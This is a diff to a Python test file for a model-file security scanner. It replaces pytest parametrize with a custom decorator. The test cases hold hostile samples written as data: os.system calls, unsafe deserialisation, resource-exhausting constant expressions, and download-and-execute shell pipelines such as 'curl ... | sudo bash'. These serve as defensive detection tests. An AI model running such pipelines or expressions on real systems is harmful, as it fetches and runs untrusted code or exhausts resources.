@@ -7,6 +7,7 @@ import time
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from support.cases import check_each
 
 from modelaudit.languages.python import attack_texts, constant_folding
 from modelaudit.languages.python.analysis import analyze_source
@@ -31,8 +32,8 @@ def uses(source: str) -> set[tuple[str, str]]:
     return {(each.use, each.name) for each in analyze_source(source).mentions}
 
 
-@pytest.mark.parametrize(
-    ("source", "use", "name"),
+@check_each(
+    "source, use, name",
     [
         ("import os\nos.system('x')", "call-at-import", "os.system"),
         ("import os\ndef f():\n    os.system('x')", "call", "os.system"),
@@ -74,8 +75,8 @@ def test_calls_are_recorded_at_import_or_later(source: str, use: str, name: str)
     assert (use, name) in uses(source)
 
 
-@pytest.mark.parametrize(
-    ("source", "name"),
+@check_each(
+    "source, name",
     [
         ("import torch\ntorch.load(x, weights_only=True)", "torch.load"),
         ("import yaml\nyaml.load(x, Loader=yaml.SafeLoader)", "yaml.load(unsafe)"),
@@ -136,7 +137,7 @@ def test_source_is_decoded_by_its_coding_cookie() -> None:
     assert decode_source(b"# coding: no-such\nx")[1] == "no-such"
 
 
-@pytest.mark.parametrize(
+@check_each(
     "source",
     ["x = 'a' * 10**9", "x = 9**9**9**9", "x = 1 << 10**9", "x = '%1000000000d' % 1", "x = '{:>1000000000}'.format(1)",
      "x = bytes(10**10)", "x = 'x'.ljust(10**10)", "x = list(range(10**12))", "x = [0] * 10**9",
@@ -148,7 +149,7 @@ def test_large_constants_are_not_computed(source: str) -> None:
     assert time.process_time() - start < 3
 
 
-@pytest.mark.parametrize(
+@check_each(
     "source",
     ["(" * 100_000, "x = " + "(" * 100_000 + ")" * 100_000, "x = " + "-" * 100_000 + "1", "x = " + "+".join("a" * 50_000),
      "x = a" + ".b" * 50_000, "f" + "()" * 50_000, "if a: pass\n" + "elif a: pass\n" * 10_000, "x = " + "lambda:" * 20_000 + "1",
@@ -214,8 +215,8 @@ def test_cell_is_split_into_python_and_ipython_lines() -> None:
     assert split_cell("%%writefile a.py\nx = 1").files == [("a.py", "x = 1")]
 
 
-@pytest.mark.parametrize(
-    ("text", "name"),
+@check_each(
+    "text, name",
     [
         ("curl -s http://x/y | sudo bash", "(download | shell)"),
         ("wget -qO- http://x/y | base64 -d | sh", "(download | shell)"),
